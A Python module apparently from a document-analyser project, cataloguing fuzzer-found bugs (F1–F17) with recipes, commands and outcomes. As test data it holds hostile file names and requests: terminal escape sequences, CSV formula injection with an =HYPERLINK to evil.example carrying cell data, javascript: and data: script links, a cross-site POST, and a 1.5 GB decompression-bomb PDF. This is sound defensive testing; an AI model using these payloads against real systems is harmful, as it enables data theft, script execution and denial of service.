"""The product bugs the fuzzer found (issue 16), each with the recipe that shows it, the command,
and what happened; ``matches`` tells the figures which failures are already recorded.

docs/fuzzing.md "Found" is written from this list; the quick tests take their xfail reasons
from it. When the lead fixes one, its quick test turns from xfail into a failure: remove the
mark and the entry.
"""

from __future__ import annotations

import re
from dataclasses import dataclass

__all__ = ["BUGS", "Bug", "known_bug"]


@dataclass(frozen=True)
class Bug:
    """One finding: ``pattern`` is searched in "WHERE: WHAT: DETAIL" of each failure (for a CLI run,
    DETAIL holds all the run's problems)."""

    id: str
    title: str
    recipe: str
    command: str
    happened: str
    pattern: str
    issue_item: str = ""

    def matches(self, text: str) -> bool:
        return re.search(self.pattern, text, re.DOTALL) is not None


BUGS: tuple[Bug, ...] = (
    Bug(
        "F1", "a .docx without docProps/core.xml (or docProps/app.xml), or with an empty one, is refused as damaged though its body is intact",
        "`core-missing`, `core-empty`, `app-missing`: the dev report r02.docx (r05 for app.xml) re-zipped without the member, or the sample with it empty",
        "python -m analyser analyse core-missing.docx --format json",
        "exit 3, `error: core-missing.docx: damaged .docx (its contents cannot be read): open it in Word, ...`; the batch lists it in errors.csv; POST /api/analyse answers 422",
        r"(core|app)-(missing|empty).*(refused though|though the body is intact|damaged \.docx)", "8",
    ),
    Bug(
        "F2", "299 identical pages are reported as 'no text found'",
        "`identical-pages-299`: a raw PDF repeating one page (a heading and 250 words) 299 times",
        "python -m analyser analyse identical-pages-299.pdf --format json",
        "exit 3, `error: identical-pages-299.pdf: no text found in the report; check it is the right file` (batch and web app alike)",
        r"identical-pages-299.*no text found", "8",
    ),
    Bug(
        "F4", "`ksb batch` prints file names and error reasons with raw escape and control characters on stderr",
        "`name-escape-sequences` (a damaged .docx named `report-ESC[2J ESC]0;pwned BEL -ESC[31mred.docx`), `name-c1-csi` (U+009B), "
        "`image-zeros-11mb-control-name` (its reason quotes the member `word/media/\\x01image1.png`)",
        "ksb batch . -o out   (in a folder holding them)",
        "the `error: ...` progress lines reach the terminal raw: ESC [2J clears the screen, ESC ]0; retitles the window, U+009B is a one-byte CSI",
        r"ksb batch.*raw control characters on stderr", "8",
    ),
    Bug(
        "F5", "a control character in a file name (ESC, BEL) makes `ksb batch` crash while writing cohort.xlsx",
        "`name-escape-sequences` in a batch with other reports (an error reason quoting `word/media/\\x01image1.png` does the same)",
        "ksb batch . -o out",
        "traceback `openpyxl.utils.exceptions.IllegalCharacterError: report-...red.docx cannot be used in worksheets`; cohort.csv and errors.csv are written, "
        "cohort.xlsx, cohort-heatmap.png and the cohort.html overview are not",
        r"IllegalCharacterError|views: not written: cohort\.xlsx", "1",
    ),
    Bug(
        "F6", "a file name of 243 bytes (60 emoji, legal on Linux) makes `ksb batch` crash before writing anything",
        "`name-emoji-60`: a good short report named with 60 U+1F600 and `.md`",
        "ksb batch . -o out",
        "traceback `OSError: [Errno 36] File name too long: 'out/.<name>.json.XXXXXXXX.tmp'` from write_atomic's temporary name; "
        "no <stem>.json, cohort.csv, errors.csv or any view",
        r"File name too long|60-emoji name.*views: not written",
    ),
    Bug(
        "F7", "file names starting with `=`, `+`, `-`, `@` or a tab start their cells in cohort.csv and cohort.xlsx (CSV injection)",
        "`name-formula-*`: good reports named `=HYPERLINK(\"http:__evil.example_?x=\"&B2,\"Open\").md`, `+SUM(1,2)*cmd.md`, `-2+3+cmd.md`, `@SUM(1+1)*cmd.md`, `\\t=1+1.md`",
        "ksb batch . -o out",
        "the file and output columns of cohort.csv start with the formula character; in cohort.xlsx the =HYPERLINK name is a live formula cell and the others start formulas",
        r"formula-(csv|xlsx)", "4",
    ),
    Bug(
        "F8", "`javascript:` and `data:` links in cohort.html from file names",
        "`name-javascript-link` (`javascript:alert(document.domain).md`), `name-data-link` (`data:text_html,<script>alert(1)<_script>.md`)",
        "ksb batch . -o out",
        "the overview links the report's page as `<a href=\"javascript:alert(document.domain).html\">`: a click runs the script",
        r"ksb batch.*javascript: link", "4",
    ),
    Bug(
        "F9", "links in cohort.html are not URL-encoded: a name holding `?`, `#`, a tab or a newline links to a file that does not exist",
        "`name-formula-hyperlink` (`?`), `name-formula-tab`, `name-newline` (`two\\nlines.md`)",
        "ksb batch . -o out",
        "`href=\"=HYPERLINK(...evil.example_?x=...).html\"` resolves to `=HYPERLINK(\"http:__evil.example_` plus a query; tabs and newlines are dropped by browsers",
        r"ksb batch.*links: link to a file the batch did not write", "what to build: links only to the files the batch wrote",
    ),
    Bug(
        "F10", "a report named cohort.md loses its page to the overview",
        "`name-cohort-collision`: a good report named `cohort.md`",
        "ksb batch . -o out",
        "its page is written as cohort.html and then overwritten by the overview, which links `cohort.md` to itself",
        r"cohort-page", "4",
    ),
    Bug(
        "F11", "an upload named with 100 emoji (403 bytes) answers 500",
        "`upload-emoji-100`: the short good report uploaded as 100 U+1F600 and `.md`",
        "curl -F 'file=@report.md;filename=<100 emoji>.md' http://127.0.0.1:8000/api/analyse",
        "HTTP 500 `the analysis failed unexpectedly` (OSError: File name too long when the upload is saved); the form page answers 500 too",
        r"upload-emoji-100.*HTTP 500", "5",
    ),
    Bug(
        "F12", "a form posted from another site is analysed",
        "`cross-site`: POST /analyse with `Origin: https://evil.example` (and `cross-site-no-origin`: `Origin: null`, a foreign Referer)",
        "curl -H 'Origin: https://evil.example' -F file=@report.md http://127.0.0.1:8000/analyse",
        "HTTP 200 and the analysis page: any web page the user visits can make the local server analyse (a CPU denial of service)",
        r"cross-site.*should have been refused", "7",
    ),
    Bug(
        "F13", "a request with two `file` fields is analysed (the last file) instead of refused",
        "`two-files`: POST /api/analyse with two `file` parts",
        "curl -F file=@a.md -F file=@b.md http://127.0.0.1:8000/api/analyse",
        "HTTP 200 with the analysis of the second file",
        r"two-files.*should have been refused", "7",
    ),
)


BUGS += (
    Bug(
        "F14", "`ksb analyse` has no time limit: pathological structure and very long reports run for minutes",
        "`bold-paragraphs-100k` (100,000 one-line bold paragraphs, 0.3 MB .docx), `headings-20k`, `words-200k-docx`, "
        "`words-200k-pdf` (200,000 words), `scattered-words-300k-pdf` (300,000 words at scattered positions on one page)",
        "python -m analyser analyse bold-paragraphs-100k.docx --format json",
        "each was still running when the fuzzer stopped it at 75 s (on 2 busy cores); nothing stops it at 60 s with a limit message as `ksb batch` does",
        r"ksb analyse.*still running after", "6",
    ),
    Bug(
        "F15", "`ksb analyse` has no memory limit: a PDF content stream inflating to 1.5 GB takes 2.5 GB and succeeds",
        "`inflating-pdf-1500mb`: a 1.5 MB PDF with one Flate content stream of 1,500 MB (a heading, then spaces)",
        "python -m analyser analyse inflating-pdf-1500mb.pdf --format json",
        "exit 0 after 20 s (on 2 busy cores) with a peak RSS of 2,561 MB (limit 1 GB); decompression is not bounded before inflating",
        r"ksb analyse.*(peaked at|over [\d,]+ MB resident)", "6",
    ),
    Bug(
        "F16", "the web app has no per-request time or memory limit",
        "the heavy recipes of F14 and F15 uploaded to POST /api/analyse",
        "curl -F file=@inflating-pdf-1500mb.pdf http://127.0.0.1:8000/api/analyse",
        "under TestClient the inflating PDF took the app's process to 2,688 MB (limit 1.5 GB) and the 300,000-word PDF and the "
        "100,000 bold paragraphs had no answer after 75 s; under a real `ksb serve`, the inflating PDF was answered (200 in 7 s) "
        "with the server at 2,696 MB, and a good report sent 2 s after the 300,000-word PDF had no answer after 90 s",
        r"POST /.*(no answer|answered after|server at [\d,]+ MB)|ksb serve under load", "2",
    ),
    Bug(
        "F17", "a worker stopped by the memory cap is reported as crashed",
        "`inflating-pdf-1500mb` in a batch (worker cap 2 GB of address space)",
        "ksb batch . -o out",
        "errors.csv says `the analysis crashed (signal SIGABRT); the file may be damaged or crafted: open it and save it again` "
        "instead of saying it needed more memory than the limit (--max-memory-mb)",
        r"ksb batch.*reasons: .*crashed \(signal", "8",
    ),
)


def known_bug(text: str) -> str:
    """The id of the recorded bug a failure description matches ("" when none does)."""
    for bug in BUGS:
        if bug.matches(text):
            return bug.id
    return ""
